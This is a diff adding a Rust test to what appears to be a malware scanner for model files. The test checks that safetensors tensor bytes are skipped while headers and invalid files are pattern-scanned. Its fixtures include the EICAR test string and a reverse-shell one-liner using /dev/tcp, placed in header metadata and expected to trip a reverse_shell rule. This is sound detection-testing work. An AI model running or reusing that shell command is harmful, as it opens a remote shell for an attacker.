@@ -241,3 +241,40 @@ fn documented_false_positives_stay_fixed() {
         );
     }
 }
+
+fn safetensors(header: &str, data: &[u8]) -> Vec<u8> {
+    let mut v = (header.len() as u64).to_le_bytes().to_vec();
+    v.extend_from_slice(header.as_bytes());
+    v.extend_from_slice(data);
+    v
+}
+
+/// A validated safetensors file is scanned by the rules up to its tensor data: the header
+/// (where metadata strings live) is scanned, the tensor bytes are not (they are proven to be
+/// exactly the declared tensors). An invalid file is scanned whole.
+#[test]
+fn tensor_data_of_valid_safetensors_is_not_pattern_scanned() {
+    let r = RuleSet::builtin();
+    let n = EICAR.len();
+    let hdr = format!(r#"{{"t":{{"dtype":"U8","shape":[{n}],"data_offsets":[0,{n}]}}}}"#);
+    assert!(scan(&r, "m.safetensors", &safetensors(&hdr, EICAR)).is_empty());
+    let meta = r#"{"__metadata__":{"note":"sh -i >& /dev/tcp/10.0.0.1/4444 0>&1"},"t":{"dtype":"U8","shape":[1],"data_offsets":[0,1]}}"#;
+    let f = scan(&r, "m.safetensors", &safetensors(meta, b"\0"));
+    assert_eq!(
+        rules_of(&f),
+        [("yara/builtin/reverse_shell".into(), Severity::Malicious)]
+    );
+    // Trailing bytes after the last tensor: invalid, and scanned whole.
+    let hdr1 = r#"{"t":{"dtype":"U8","shape":[1],"data_offsets":[0,1]}}"#;
+    let mut data = b"\0".to_vec();
+    data.extend_from_slice(EICAR);
+    let mut got = rules_of(&scan(&r, "m.safetensors", &safetensors(hdr1, &data)));
+    got.sort();
+    assert_eq!(
+        got,
+        [
+            ("safetensors/format".into(), Severity::Invalid),
+            ("yara/builtin/eicar_test_file".into(), Severity::Malicious),
+        ]
+    );
+}
